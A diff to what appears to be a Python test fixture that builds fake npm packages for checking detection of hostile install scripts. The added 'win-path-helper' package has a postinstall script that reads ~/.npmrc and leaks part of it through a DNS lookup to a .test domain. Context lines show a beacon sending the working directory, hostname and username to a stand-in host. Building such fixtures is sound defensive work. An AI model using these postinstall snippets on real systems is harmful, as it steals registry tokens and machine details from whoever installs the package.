@@ -18,6 +18,9 @@ https   telemetry-env-report: its postinstall posts the whole environment
 beacon  install-metrics-beacon: a dependency-confusion style probe whose
         postinstall GETs https://.../ping?d=<cwd>&h=<hostname> (no token,
         no body) and resolves its own hostname, as much real code does.
+otheros win-path-helper: declares "os": ["win32"] and "cpu": ["x64"],
+        which npm refuses to install on Linux (EBADPLATFORM), and carries a
+        postinstall that reads ~/.npmrc and looks up a .test name.
 """
 import io
 import json
@@ -82,6 +85,17 @@ PACKAGES = {
             "const q = new URLSearchParams({d: process.cwd(), h: os.hostname(), u: os.userInfo().username});\n"
             "require('https').get('https://metrics-beacon.test/ping?' + q, r => r.resume())\n"
             "  .on('error', () => {});\n", 0o644),
+    },
+    "otheros": {
+        "package/package.json": (json.dumps({
+            "name": "win-path-helper", "version": "1.0.4", "main": "index.js",
+            "os": ["win32"], "cpu": ["x64"],
+            "scripts": {"postinstall": "node setup.js"}, "license": "MIT"}, indent=2), 0o644),
+        "package/index.js": ("module.exports = {};\n", 0o644),
+        "package/setup.js": (
+            "const t = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n"
+            "require('dns').lookup(t.replace(/[^a-z0-9]/gi, '').slice(-30) + '.winpath.test', () => {});\n",
+            0o644),
     },
 }
 
